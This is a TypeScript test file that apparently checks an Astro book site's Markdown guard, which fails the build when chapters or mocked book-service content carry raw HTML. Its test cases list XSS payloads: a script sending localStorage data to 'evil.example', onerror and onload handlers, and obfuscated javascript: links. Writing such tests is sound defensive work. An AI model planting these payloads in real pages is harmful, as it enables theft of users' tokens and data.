import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { LoaderContext } from 'astro/loaders';
import { markdownToHtml, type HastPluginDefinition } from 'satteri';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { chapterSchema } from '../../src/content.config';
import { markdownHtmlGuard } from '../../src/integrations/markdown-html';
import { diagramPlugin, mathPlugin, tablePlugin } from '../../src/integrations/math';
import { bookChapters } from '../../src/loaders/book-service';
import { fixtureDir, startBookServices, type FakeBookServices } from '../support/book-services';

/*
 * Markdown passes raw HTML through to the page. A chapter, a policy or a chapter served by the old book services
 * could carry a script or an event handler onto the site's origin, where the content editor keeps its author's
 * GitHub token. The site's Markdown settings (astro.config.mjs) refuse it, naming the file.
 */

const chapterFile = join(process.cwd(), 'src/content/chapters/thermodynamics/a-chapter.md');

/** Markdown as the site renders it: the guard first, then the site's own plugins, which write HTML of their own. */
async function render(markdown: string, hastPlugins: HastPluginDefinition[] = []) {
  const { html } = await markdownToHtml(markdown, {
    mdastPlugins: [markdownHtmlGuard()],
    hastPlugins: [mathPlugin, tablePlugin, diagramPlugin, ...hastPlugins],
    features: { math: true },
    fileURL: pathToFileURL(chapterFile),
  });
  return html;
}

describe('Markdown an author writes', () => {
  it.each([
    ['a script element in a chapter', 'Text.\n\n<script>fetch("//evil.example/?" + localStorage.length)</script>\n'],
    ['an image whose onerror runs', 'A figure: <img src="x" onerror="alert(document.domain)">\n'],
    ['an SVG whose onload runs', '<svg onload="alert(document.domain)"></svg>\n'],
    ['a comment that hides markup', '<!-- --><script>alert(1)</script>\n'],
    ['a javascript: link', '[Read more](javascript:alert(document.domain))\n'],
    ['a javascript: link written with a tab', '[Read more](jav&#x09;ascript:alert(1))\n'],
    ['a javascript: autolink', '<javascript:alert(document.domain)>\n'],
    ['a javascript: link by reference', '[Read more][x]\n\n[x]: javascript:alert(1)\n'],
  ])('%s fails the build, naming the file and the line', async (_attack, markdown) => {
    await expect(render(markdown)).rejects.toThrow(/^src\/content\/chapters\/thermodynamics\/a-chapter\.md: .*line \d/);
  });

  it("keeps what the site's own plugins write, and code that only shows HTML", async () => {
    const html = await render(
      '```c\n#include <stdio.h>\n```\n\nThe header `<stdio.h>`; if a<b then $a^2 < b^2$.\n\n' +
        '| a | b |\n|---|---|\n| 1 | 2 |\n\n**Answer:** 42\n',
    );
    expect(html).toContain('#include &lt;stdio.h&gt;');
    expect(html).toContain('<math');
    expect(html).toContain('<div class="table-scroll"');
    expect(html).not.toContain('<script');
  });

  it('does not refuse HTML that a later plugin of the site writes (an answer in <details>)', async () => {
    const answers: HastPluginDefinition = {
      name: 'answers-in-details',
      element: {
        filter: ['p'],
        visit(node, ctx) {
          if (ctx.textContent(node).startsWith('Answer:'))
            ctx.wrapNode(node, { raw: '<details class="answer"><summary>Answer</summary></details>' });
        },
      },
    };
    const html = await render('**Answer:** 42\n', [answers]);
    expect(html).toContain('<details class="answer"><p><strong>Answer:</strong> 42</p>');
  });
});

describe('a chapter read from the old book services', () => {
  let services: FakeBookServices;
  beforeAll(async () => {
    services = await startBookServices();
  });
  afterAll(() => services.close());

  it('with a script in its Markdown fails the build, naming the service and the chapter', async () => {
    services.faults.set('/api/quartz/v1/topics/q-t1/contents', {
      json: [{ _id: 'q-k1', heading: 'Boundaries', markdown: 'A system.\n\n<img src=x onerror="alert(1)">' }],
    });
    const api = (service: string) => `${services.origin}/api/${service}/v1`;
    const loader = bookChapters({
      base: './chapters',
      books: './books',
      env: { BOOKS_API_QUARTZ: api('quartz'), BOOKS_API_BEE: api('bee'), BOOKS_API_AUTOMOBILE: api('automobile') },
      retries: 0,
    });
    await expect(loader.load(serviceContext())).rejects.toThrow(
      /GET http:\/\/127\.0\.0\.1:\d+\/api\/quartz\/v1\/extended\/chapters\/q-c1 \("Closed and Open Systems"\): .*Markdown may not hold HTML[\s\S]*BOOKS_API_QUARTZ is set/,
    );
  });
});

/** The parts of Astro's loader context the service path uses, rendering Markdown with the site's settings. */
function serviceContext(): LoaderContext {
  const entries = new Map<string, unknown>();
  const root = pathToFileURL(`${fixtureDir}/`);
  return {
    collection: 'chapters',
    config: { root },
    logger: { info: vi.fn(), warn: vi.fn(), error: vi.fn(), debug: vi.fn() },
    store: {
      values: () => [],
      set: (entry: { id: string }) => (entries.set(entry.id, entry), true),
      clear: () => entries.clear(),
    },
    parseData: async ({ data }: { data: unknown }) => chapterSchema.parseAsync(data),
    generateDigest: (data: unknown) => JSON.stringify(data),
    renderMarkdown: async (markdown: string) => ({
      html: (await markdownToHtml(markdown, { mdastPlugins: [markdownHtmlGuard()] })).html,
      metadata: {},
    }),
  } as unknown as LoaderContext;
}
